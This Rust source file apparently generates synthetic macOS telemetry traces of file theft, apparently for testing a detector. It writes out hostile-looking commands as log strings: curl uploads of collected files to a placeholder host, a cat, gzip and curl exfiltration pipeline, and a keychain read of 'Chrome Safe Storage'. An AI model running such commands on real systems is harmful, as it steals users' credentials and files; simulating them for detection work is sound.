//! Acting out a plan as lines of a trace.

use super::cast::{
    BASH, CP, CURL, EXTENSIONS, GZIP, HDIUTIL, IMPLANTS, LAUNCHD, LN, MOUNT, MV, PYTHON, Program, RM, SCREENCAPTURE, SECURITY, TERMINAL,
    WEBKIT, ZSH,
};
use super::random::Random;
use super::scene::{Moment, SECOND, Scene, delay};
use super::theft::{Break, Method, Step, Theft};

/// A disk image that things are put into.
const IMAGE: &str = "/private/tmp/i.dmg";

/// What a play has come to.
pub(crate) struct Play<'a> {
    pub(crate) scene: &'a mut Scene,
    pub(crate) random: &'a mut Random,
    pub(crate) plan: &'a Theft,
    pub(crate) now: Moment,
    pub(crate) shell: u32,
    /// The terminal that the shell runs in, if it was seen.
    pub(crate) terminal: Option<u32>,
    /// What is stolen, by the names that it has by then.
    pub(crate) stores: Vec<String>,
}

impl Play<'_> {
    /// Acts out a plan. `away` is where the flow of another host is seen.
    pub(crate) fn act(scene: &mut Scene, random: &mut Random, plan: &Theft, away: &mut Scene) {
        let (shell, terminal) = caller(scene, plan);
        let stores = plan.stores.iter().map(|store| (*store).to_owned()).collect();
        let mut play = Play { scene, random, plan, now: plan.start + SECOND, shell, terminal, stores };
        play.move_stores();
        let (file, collector) = play.collect();
        let file = play.move_on(file);
        let sender = play.sender(&file, collector);
        play.send(sender, &file, away);
    }

    fn tick(&mut self) {
        self.now += self.random.pick(&[0, 1, 10, 500, 1_000]) * SECOND / 1_000;
    }

    pub(crate) fn read(&mut self, pid: u32, path: &str, size: i64) {
        self.tick();
        self.scene.say(self.now, &format!("read {pid} \"{path}\" size={size}"));
    }

    /// Reads all stores, into an output opened before or after.
    fn pack(&mut self, pid: u32, output: &str) {
        let first = self.plan.output_first;
        if first {
            self.scene.say(self.now, &format!("create {pid} {output}"));
        }
        for store in &self.stores.clone() {
            self.read(pid, store, 9_000);
            if self.random.chance(20) {
                self.read(pid, store, 9_000);
            }
        }
        self.tick();
        if !first {
            self.scene.say(self.now, &format!("create {pid} {output}"));
        }
        self.scene.say(self.now, &format!("write {pid} {output}"));
        self.tick();
        self.scene.say(self.now, &format!("close {pid} {output} modified size={}", self.plan.size));
    }

    /// Gives the folders of the stores other names.
    fn move_stores(&mut self) {
        let Some(verb) = self.plan.moved else { return };
        for number in 0..self.stores.len() {
            let store = self.stores[number].clone();
            let Some((folder, name)) = store.rsplit_once('/') else { continue };
            // Of no interest, of less, one that is sent, and one that moves on with what it is in.
            let above =
                self.random.pick(&["/private/tmp", "/private/tmp", "/Users/ana/Documents", "/Users/ana/Dropbox", "/private/tmp/deep"]);
            let mut new = format!("{above}/m{number}");
            self.give_folder(verb, folder, &new);
            if above.ends_with("deep") {
                let above = self.random.pick(&["/private/tmp/other", "/private/tmp/Deep", "/Users/ana/Documents/deep"]);
                let verb = self.random.pick(&["rename", "copy"]);
                self.give_folder(verb, "/private/tmp/deep", above);
                new = format!("{above}/m{number}");
            }
            self.stores[number] = format!("{new}/{name}");
            self.tick();
        }
    }

    fn give_folder(&mut self, verb: &str, folder: &str, new: &str) {
        let program = if verb == "rename" { MV } else { CP };
        let pid = self.scene.spawn(self.now, self.shell, program, "program");
        self.now += SECOND / 20;
        self.scene.say(self.now, &format!("{verb} {pid} \"{folder}\" -> {new}"));
        self.scene.say(self.now, &format!("exit {pid}"));
    }

    /// Another machine's folder is mounted, by a command or by the system.
    fn mount_share(&mut self) {
        let from = self.random.pick(&["https://dav.example/in", "https://dav.example/in", "http://dav.example/in", "https://10.0.7.7/in"]);
        if self.random.chance(30) {
            let agent = self.scene.there_is(self.now, "launchd", 0, LAUNCHD);
            let from = self.random.pick(&[from, "//ana@smb.example/share", "nas.example:/export", "/dev/disk9s1"]);
            self.scene.say(self.now, &format!("mount {agent} {from} -> /Volumes/d"));
        } else {
            let pid = self.scene.spawn(self.now, self.shell, MOUNT, &format!("mount_webdav {from} /Volumes/d"));
            self.scene.say(self.now + SECOND / 2, &format!("exit {pid}"));
        }
        self.now += SECOND;
    }

    /// A disk image is attached, and perhaps another volume mounted meanwhile.
    fn attach_image(&mut self) {
        let told = self.random.chance(40);
        let at = if told { " -mountpoint /Volumes/i" } else { "" };
        let pid = self.scene.spawn(self.now, self.shell, HDIUTIL, &format!("hdiutil attach {IMAGE}{at}"));
        let agent = self.scene.there_is(self.now, "launchd", 0, LAUNCHD);
        if self.random.chance(20) {
            self.scene.say(self.now + SECOND, &format!("mount {agent} //ana@nas.local/s -> /Volumes/n"));
        }
        let waits = self.random.pick(&[2, 2, 2, 59, 60, 61]);
        if !told || self.random.chance(50) {
            self.scene.say(self.now + waits * SECOND, &format!("mount {agent} /dev/disk4s1 -> /Volumes/i"));
        }
        self.scene.say(self.now + waits * SECOND, &format!("exit {pid}"));
        self.now += (waits + 1) * SECOND;
    }

    /// Collects. Gives the staged file, and the process that collected if it is still there.
    fn collect(&mut self) -> (String, Option<u32>) {
        match self.plan.synced {
            Some("/Volumes/d") => self.mount_share(),
            Some("/Volumes/i") => self.attach_image(),
            _ => {}
        }
        let suffix = if self.plan.archive { ".zip" } else { ".dat" };
        let folder = match self.plan.synced {
            Some(folder) => folder,
            None if self.plan.steps.contains(&Step::Folder) => "/private/tmp/d",
            None => "/private/tmp",
        };
        let staged = format!("{folder}/out{}{suffix}", self.random.below(3));
        let operand = |store: &String| match store.rsplit_once('/') {
            Some((folder, _)) if self.plan.folders => format!("\"{folder}\""),
            _ => format!("\"{store}\""),
        };
        let stores: Vec<String> = self.stores.iter().map(operand).collect();
        let operands = stores.join(" ");
        let program = self.plan.program;
        match self.plan.method {
            Method::Direct | Method::Child => {
                let pid = self.scene.spawn(self.now, self.shell, program, "agent --run");
                self.now += SECOND;
                for store in self.stores.clone() {
                    self.read(pid, &store, 9_000);
                }
                (String::new(), Some(pid))
            }
            Method::PackAndSend | Method::Dropped | Method::Driven => {
                let pid = self.scene.spawn(self.now, self.shell, program, "agent --run");
                self.now += SECOND;
                self.pack(pid, &staged);
                if self.plan.method == Method::Dropped {
                    // Whoever sends it has another parent.
                    self.shell = self.scene.there_is(self.now, "launchd", 0, LAUNCHD);
                    return (staged, None);
                }
                (staged, Some(pid))
            }
            Method::Redirected => {
                // A shell may be told in a text, and its child may do it.
                let told = self.plan.output_first && self.random.chance(60);
                let parent = if told {
                    let text = self.random.pick(&["cat x > ", "cat x | tee y >> ", "echo x 2> "]);
                    self.scene.spawn(self.now, self.shell, ZSH, &format!("sh -c '{text}{staged}'"))
                } else {
                    self.shell
                };
                let pid = if told && self.random.chance(40) { parent } else { self.scene.fork(self.now + SECOND / 90, parent) };
                if !told || self.random.chance(30) {
                    self.scene.say(self.now + SECOND / 90, &format!("create {pid} {staged}"));
                }
                self.scene.exec(self.now + SECOND / 80, pid, program, &format!("cat {operands}"));
                self.now += SECOND;
                if !told || self.random.chance(60) {
                    self.read_stores(pid);
                }
                self.tick();
                self.scene.say(self.now, &format!("close {pid} {staged} modified size={}", self.plan.size));
                self.scene.say(self.now, &format!("exit {pid}"));
                (staged, None)
            }
            Method::Archived | Method::Become => {
                let argv = match program.0 {
                    text if text.contains("ditto") => format!("ditto -c -k {operands} {staged}"),
                    text if text.contains("tar") => format!("tar -czf {staged} {operands}"),
                    _ => format!("zip -r {staged} {operands}"),
                };
                let pid = self.scene.spawn(self.now, self.shell, program, &argv);
                self.now += SECOND;
                self.pack(pid, &staged);
                if self.plan.method == Method::Become {
                    return (staged, Some(pid));
                }
                self.scene.say(self.now, &format!("exit {pid}"));
                (staged, None)
            }
            Method::Piped => {
                let pid = self.scene.spawn(self.now, self.shell, program, &format!("tar -cf - {operands}"));
                self.now += SECOND;
                for store in self.stores.clone() {
                    self.read(pid, &store, 9_000);
                }
                self.scene.say(self.now, &format!("exit {pid}"));
                (String::new(), None)
            }
            Method::Pipeline => self.pipeline(&operands, &staged),
            Method::Served => (String::new(), Some(self.served())),
            Method::Contained => (String::new(), Some(self.contained())),
            Method::Imported => (self.imported(), None),
            Method::Bulk => {
                let pid = self.scene.spawn(self.now, self.shell, program, "agent --run");
                self.now += SECOND;
                let output = format!("/private/tmp/bulk{}", self.random.below(3));
                if self.plan.output_first {
                    self.scene.say(self.now, &format!("create {pid} {output}"));
                }
                if self.random.chance(20) {
                    self.scene.say(self.now, &format!("create {pid} /private/tmp/other"));
                }
                let sparse = self.plan.broken == Some(Break::Sparse);
                let files = if sparse { 12 } else { self.random.pick(&[18, 20, 21, 26]) };
                self.read_stores(pid);
                let apart = self.random.pick(&[10, 100, 2_000, 5_000, 7_000]) * SECOND / 1_000;
                for number in 0..files {
                    self.now += apart;
                    self.scene.say(self.now, &format!("read {pid} /Users/ana/Documents/f{number}.docx size=9000"));
                }
                self.now += self.random.pick(&[1, 30, 59, 61, 121]) * SECOND;
                if !self.plan.output_first {
                    self.scene.say(self.now, &format!("create {pid} {output}"));
                }
                self.scene.say(self.now, &format!("write {pid} {output}"));
                self.scene.say(self.now, &format!("close {pid} {output} modified size={}", self.plan.size));
                (output, None)
            }
            Method::Captured => {
                let pid = self.scene.spawn(self.now, self.shell, SCREENCAPTURE, &format!("screencapture -x {staged}"));
                self.now += SECOND;
                if self.plan.output_first {
                    self.scene.say(self.now, &format!("create {pid} {staged}"));
                    self.scene.say(self.now, &format!("close {pid} {staged} modified size={}", self.plan.size));
                }
                self.scene.say(self.now, &format!("exit {pid}"));
                (staged, None)
            }
            Method::Entrusted => {
                let pid = self.scene.spawn(self.now, self.shell, program, "agent --run");
                let launchd = self.scene.there_is(self.now, "launchd", 0, LAUNCHD);
                let other = self.scene.spawn(self.now, self.shell, CURL, "curl --version");
                let apart = self.plan.broken == Some(Break::Irresponsible);
                let service = self.random.pick(&[WEBKIT, WEBKIT, IMPLANTS[5]]);
                let sender = self.scene.pid();
                self.scene.say(self.now + SECOND / 10, &format!("fork {launchd} -> {sender}"));
                let responsible = match self.random.below(8) {
                    0 => String::new(),
                    _ if apart => format!("responsible={other}"),
                    _ => format!("responsible={pid}"),
                };
                self.scene.say(self.now + SECOND / 9, &format!("exec {sender} {responsible} {} : service", service.0));
                self.now += SECOND;
                match self.random.below(9) {
                    // A service reads, and who is responsible for it sends, or another of its services does.
                    0 => {
                        self.read_stores(sender);
                        (String::new(), Some(pid))
                    }
                    1..=3 => {
                        let reader = self.scene.pid();
                        self.scene.say(self.now, &format!("fork {launchd} -> {reader}"));
                        self.scene.say(self.now, &format!("exec {reader} responsible={pid} {} : reader", service.0));
                        self.read_stores(reader);
                        if self.random.chance(50) {
                            self.now += 700 * SECOND;
                        }
                        (String::new(), Some(sender))
                    }
                    // An extension reads, and has a child of the editor send what it gives it.
                    4 | 5 => {
                        let editor = self.scene.spawn(self.now, launchd, EXTENSIONS, "extensions");
                        self.read_stores(editor);
                        if self.random.chance(20) {
                            self.now += 700 * SECOND;
                        }
                        let host = self.plan.place.name;
                        let argv = match self.random.below(4) {
                            0 => format!("curl -d YWJj https://{host}/up"),
                            1 => format!("curl -T /Users/ana/src/site/index.html https://{host}/up"),
                            _ => format!("curl -T - https://{host}/up"),
                        };
                        let shell = if self.random.chance(40) { self.scene.spawn(self.now, editor, ZSH, "sh -c x") } else { editor };
                        (String::new(), Some(self.scene.spawn(self.now + SECOND, shell, CURL, &argv)))
                    }
                    _ => {
                        self.read_stores(pid);
                        (String::new(), Some(sender))
                    }
                }
            }
            Method::Daemon => {
                let pid = self.scene.spawn(self.now, self.shell, program, "agent --run");
                self.now += SECOND;
                self.read_stores(pid);
                if self.random.chance(80) {
                    self.scene.say(self.now, &format!("exit {pid}"));
                }
                // No fork was recorded, and launchd is its parent by now.
                let launchd = self.scene.there_is(self.now, "launchd", 0, LAUNCHD);
                (String::new(), Some(self.scene.orphan(self.now, launchd, pid, program)))
            }
            Method::Uploaded => (self.stores[0].clone(), None),
            Method::Cloned => {
                let pid = self.scene.spawn(self.now, self.shell, program, "agent --run");
                self.now += SECOND;
                let (store, size) = (self.stores[0].clone(), self.plan.size);
                self.scene.say(self.now, &format!("copy {pid} \"{store}\" -> {staged} size={size}"));
                self.scene.say(self.now + SECOND, &format!("exit {pid}"));
                (staged, None)
            }
            Method::Secret => {
                let pid = self.scene.spawn(self.now, self.shell, PYTHON, "python3 ask.py");
                self.now += SECOND;
                let asks = "security find-generic-password -w -s \"Chrome Safe Storage\"";
                let tool = self.scene.spawn(self.now, pid, SECURITY, asks);
                self.scene.say(self.now + SECOND, &format!("exit {tool}"));
                (String::new(), Some(pid))
            }
        }
    }

    /// `cat store | gzip | curl -T - url`, or `cat store | gzip > staged`: the members are made one after the other, and
    /// run at the same time. Gives the staged file, or else the member that sends.
    fn pipeline(&mut self, operands: &str, staged: &str) -> (String, Option<u32>) {
        let stays = self.plan.archive && self.random.chance(40);
        let group = self.scene.pid();
        let host = self.plan.place.name;
        let mut programs = vec![(self.plan.program, format!("collect {operands}"))];
        if stays || self.random.chance(40) {
            programs.push((GZIP, "gzip -c".to_owned()));
        }
        if !stays {
            programs.push((CURL, format!("curl -T - https://{host}/up")));
        }
        if self.random.chance(15) {
            programs.reverse();
        }
        let last = programs.len() - 1;
        let (mut reader, mut sender) = (0, 0);
        let reads_at_once = self.plan.output_first;
        for (number, (program, argv)) in programs.into_iter().enumerate() {
            let apart = self.plan.broken == Some(Break::Group) && number > 0;
            let group = if apart { self.scene.pid() } else { group };
            let pid = self.scene.pid();
            // A shell with jobs gives the group after the fork, one without gives its own.
            let early = if self.random.chance(50) { format!(" group={group}") } else { String::new() };
            self.scene.say(self.now, &format!("fork {} -> {pid}{early}", self.shell));
            if stays && number == last {
                self.scene.say(self.now, &format!("create {pid} {staged}"));
            }
            // A member may be a shell of its own, whose child does the work.
            let subshell = self.random.chance(25) && !(stays && number == last);
            let pid = if subshell {
                let child = self.scene.pid();
                let own = if self.random.chance(70) { format!(" group={group}") } else { String::new() };
                self.scene.say(self.now + SECOND / 200, &format!("fork {pid} -> {child}{own}"));
                child
            } else {
                pid
            };
            let then = self.now + SECOND / 100;
            self.scene.say(then, &format!("exec {pid} {} group={group} cwd=/Users/ana : {argv}", program.0));
            if program == self.plan.program {
                reader = pid;
                if reads_at_once {
                    self.now = then;
                    self.read_stores(pid);
                }
            } else {
                sender = pid;
            }
            self.now += self.random.pick(&[20, 20, 20, 900, 1_000, 1_980, 2_000, 2_001]) * SECOND / 1_000;
        }
        if !reads_at_once {
            self.read_stores(reader);
        }
        if self.random.chance(70) {
            self.tick();
            self.scene.say(self.now, &format!("exit {reader}"));
        }
        if !stays {
            return (String::new(), Some(sender));
        }
        self.tick();
        self.scene.say(self.now, &format!("close {sender} {staged} modified size={}", self.plan.size));
        self.scene.say(self.now, &format!("exit {sender}"));
        (staged.to_owned(), None)
    }

    fn read_stores(&mut self, pid: u32) {
        for store in self.stores.clone() {
            self.read(pid, &store, 9_000);
        }
    }

    /// Moves the staged file along.
    fn move_on(&mut self, mut file: String) -> String {
        if file.is_empty() || self.plan.method == Method::Uploaded {
            return file;
        }
        if file.starts_with("/Volumes/i/") {
            // The image itself goes on.
            file = IMAGE.to_owned();
        }
        for (number, step) in self.plan.steps.iter().enumerate() {
            self.now += if number == 0 { self.plan.delays[0] } else { delay(self.random) };
            if *step == Step::Folder {
                let (folder, name) = file.rsplit_once('/').unwrap_or(("/", ""));
                let new = format!("/private/tmp/f{number}");
                let pid = self.scene.spawn(self.now, self.shell, MV, &format!("mv {folder} {new}"));
                let verb = self.random.pick(&["rename", "rename", "copy"]);
                self.scene.say(self.now + SECOND / 10, &format!("{verb} {pid} {folder} -> {new}"));
                self.scene.say(self.now + SECOND / 10, &format!("exit {pid}"));
                self.now += SECOND / 10;
                file = format!("{new}/{name}");
                continue;
            }
            let next = format!("{file}{number}.zip");
            let (program, verb): (Program, &str) = match step {
                Step::Rename => (MV, "rename"),
                Step::Copy => (CP, "copy"),
                Step::Link => (LN, "link"),
                Step::Duplicate | Step::Folder => (CP, ""),
            };
            let name = program.0.rsplit('/').next().unwrap_or("cp");
            let pid = self.scene.spawn(self.now, self.shell, program, &format!("{name} {file} {next}"));
            self.now += SECOND / 10;
            if verb.is_empty() {
                self.read(pid, &file.clone(), self.plan.size);
                self.scene.say(self.now, &format!("create {pid} {next}"));
                self.scene.say(self.now, &format!("close {pid} {next} modified size={}", self.plan.size));
            } else {
                self.scene.say(self.now, &format!("{verb} {pid} {file} -> {next} size={}", self.plan.size));
            }
            self.scene.say(self.now, &format!("exit {pid}"));
            file = next;
        }
        if self.plan.broken == Some(Break::Unlinked) {
            let pid = self.scene.spawn(self.now, self.shell, RM, &format!("rm {file}"));
            self.scene.say(self.now + SECOND, &format!("unlink {pid} {file}"));
            self.scene.say(self.now + SECOND, &format!("exit {pid}"));
            self.now += 2 * SECOND;
        }
        file
    }
}

/// Who starts it all.
fn caller(scene: &mut Scene, plan: &Theft) -> (u32, Option<u32>) {
    let at = plan.start;
    match (plan.terminal, plan.size % 3) {
        (true, 0) => {
            // Telemetry began after the shell did.
            (scene.there_is(at, "zsh", 1, ZSH), None)
        }
        (true, _) => {
            let launchd = scene.there_is(at, "launchd", 0, LAUNCHD);
            let terminal = scene.spawn(at, launchd, TERMINAL, "Terminal");
            (scene.spawn(at + SECOND / 2, terminal, ZSH, "-zsh"), Some(terminal))
        }
        (false, _) => {
            let launchd = scene.there_is(at, "launchd", 0, LAUNCHD);
            (scene.spawn(at, launchd, BASH, "bash /private/tmp/install.sh"), None)
        }
    }
}
